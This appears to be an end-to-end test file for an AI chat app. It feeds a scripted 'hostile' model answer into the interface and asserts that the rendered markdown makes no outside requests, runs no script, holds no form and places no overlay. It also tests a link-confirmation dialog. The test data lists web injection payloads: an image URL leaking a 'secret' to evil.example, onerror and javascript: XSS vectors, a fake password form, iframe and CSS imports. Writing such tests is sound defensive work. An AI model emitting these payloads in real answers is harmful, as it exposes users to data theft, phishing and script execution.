import { expect, test } from '../support/scripted.ts';

const HOSTILE = [
  '![pixel](https://evil.example/pixel.png?q=secret)',
  '<img src="https://evil.example/a.png" onerror="alert(1)">',
  '<img src=x onerror=alert(2)>',
  '[click me](javascript:alert(3))',
  '<a href="javascript:alert(4)">and me</a>',
  '<script>alert(5)</script>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<style>@import url(https://evil.example/style.css);</style>',
  '<form action="https://evil.example/form"><input name="password"><button>Log in</button></form>',
  '[ref]: https://evil.example/ref.png',
  '![by reference][ref]',
  '<svg><image href="https://evil.example/svg.png" /></svg>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/bg.png)">over all</div>',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==)',
  '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(7)"\n```',
  'The end of it.',
].join('\n\n');

test('a hostile answer sends no request, runs no script and covers nothing', async ({
  chat,
  stage,
  page,
  stack,
}) => {
  const foreign: string[] = [];
  const dialogs: string[] = [];
  const host = new URL(stack.url).host;
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && url.host !== host) foreign.push(request.url());
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  stage.playAll({ text: HOSTILE, tokensPerSecond: 400 });
  await chat.open();
  await chat.send('Be evil');
  await chat.done(4);
  const answer = chat.answer('Alder');
  await expect(answer).toContainText('The end of it.');
  await expect(answer.locator('iframe, script, form, style, object, embed')).toHaveCount(0);
  // Only the checkboxes of task lists remain of all inputs.
  await expect(answer.locator('input:not([type=checkbox]:disabled)')).toHaveCount(0);
  await expect(answer.locator('a[href^="javascript:"], a[href^="data:"], [onerror]')).toHaveCount(0);
  await expect(answer.locator('img[src*="evil.example"]')).toHaveCount(0);
  const fixed = await answer.evaluate(
    (box) =>
      [...box.querySelectorAll('*')].filter((each) => getComputedStyle(each).position === 'fixed').length,
  );
  expect(fixed).toBe(0);
  await answer.getByText('click me').click({ force: true });
  await page.keyboard.press('Escape');
  await page.reload();
  await chat.done(4);
  expect(foreign).toEqual([]);
  expect(dialogs).toEqual([]);
});

test('a link in an answer shows its target before it opens, and sends no referrer', async ({
  chat,
  stage,
  context,
}) => {
  await context.route('https://example.org/**', (route) => route.fulfill({ body: 'there' }));
  stage.playAll({ text: 'Read [the docs](https://example.org/docs).' });
  await chat.open();
  await chat.send('Where?');
  await chat.done(4);
  await chat.answer('Alder').getByText('the docs').click();
  const dialog = chat.page.getByRole('dialog', { name: 'Open this link?' });
  await expect(dialog).toContainText('https://example.org/docs');
  const popup = context.waitForEvent('page');
  await dialog.getByRole('button', { name: 'Open' }).click();
  const opened = await popup;
  await opened.waitForURL('https://example.org/docs');
  expect(await opened.evaluate(() => window.opener)).toBeNull();
});
